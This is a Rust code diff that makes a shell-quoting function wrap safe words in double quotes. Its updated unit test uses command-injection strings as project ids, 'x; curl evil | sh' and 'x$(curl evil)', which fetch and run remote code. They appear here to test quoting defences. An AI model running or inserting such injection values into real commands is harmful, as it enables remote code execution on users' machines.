@@ -92,11 +92,16 @@ impl fmt::Display for Invocation {
     }
 }
 
-/// A word from outside as a shell takes it for one word, whatever it holds.
+/// A word from outside as a shell takes it for one word, whatever it holds. Double quotes mean the same to sh, PowerShell and cmd, as
+/// long as nothing in them means anything.
 fn quoted(word: &str) -> Cow<'_, str> {
     let plain = |char: char| char.is_alphanumeric() || matches!(char, '-' | '_' | '.' | '•');
     if word.chars().all(plain) {
         return Cow::Borrowed(word);
+    }
+    let meaningful = |char: char| char.is_control() || "\"$`\\!%".contains(char);
+    if !word.contains(meaningful) {
+        return Cow::Owned(format!("\"{word}\""));
     }
     shlex::try_quote(word).unwrap_or_else(|_nul| Cow::Owned(format!("'{}'", word.escape_debug())))
 }
@@ -109,7 +114,8 @@ mod tests {
     fn an_id_of_a_server_is_one_word_of_the_command() {
         let join = |id: &str| Invocation::JoinProject(id.to_owned()).to_string();
         assert!(join("old-violet-32930710").ends_with("--project old-violet-32930710"));
-        assert!(join("x; curl evil | sh").ends_with("--project 'x; curl evil | sh'"));
+        assert!(join("x; curl evil | sh").ends_with("--project \"x; curl evil | sh\""));
+        assert!(join("x$(curl evil)").ends_with("--project 'x$(curl evil)'"));
         assert!(!join("x\0y").contains('\0'));
     }
 }
